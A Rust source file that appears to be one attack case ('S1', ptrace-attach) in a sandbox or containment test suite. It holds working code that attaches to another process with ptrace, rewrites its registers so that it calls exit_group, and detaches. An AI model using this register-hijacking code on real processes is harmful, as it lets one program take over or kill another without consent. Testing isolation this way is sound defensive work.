//! S1: attaches to a process outside and makes it call `exit_group`.

use std::io;

use crate::attack::{Attack, Judge};
use crate::attacks::kernel::{nap, sys};
use crate::attacks::target;
use crate::stage::Stage;

pub(super) const ROW: Attack = Attack {
    id: "S1",
    name: "ptrace-attach",
    what: "puppets a host process: attaches, points it at exit_group and lets it run",
    prepare,
    attack,
    ..Attack::ROW
};

/// Word numbers in `user_regs_struct`.
const RAX: usize = 10;
const RDI: usize = 14;
const ORIG_RAX: usize = 15;
const RIP: usize = 16;

fn prepare(stage: &mut Stage) -> io::Result<Judge> {
    Ok(target::start(stage)?.alive())
}

fn attack(args: &[String]) -> io::Result<()> {
    target::first(&target::reach(args)?, puppet)
}

fn puppet(pid: i32) -> io::Result<()> {
    let mut status = 0i32;
    sys!(SYS_ptrace, libc::PTRACE_ATTACH, pid, 0, 0)?;
    sys!(SYS_wait4, pid, &mut status, libc::__WALL, 0)?;
    let mut regs = [0u64; 27];
    sys!(SYS_ptrace, libc::PTRACE_GETREGS, pid, 0, &mut regs)?;
    // The target sleeps in a call: the instruction before its next one is `syscall`.
    regs[RIP] -= 2;
    regs[ORIG_RAX] = u64::MAX;
    regs[RAX] = libc::SYS_exit_group as u64;
    regs[RDI] = 77;
    sys!(SYS_ptrace, libc::PTRACE_SETREGS, pid, 0, &regs)?;
    sys!(SYS_ptrace, libc::PTRACE_DETACH, pid, 0, 0)?;
    nap(100);
    Ok(())
}
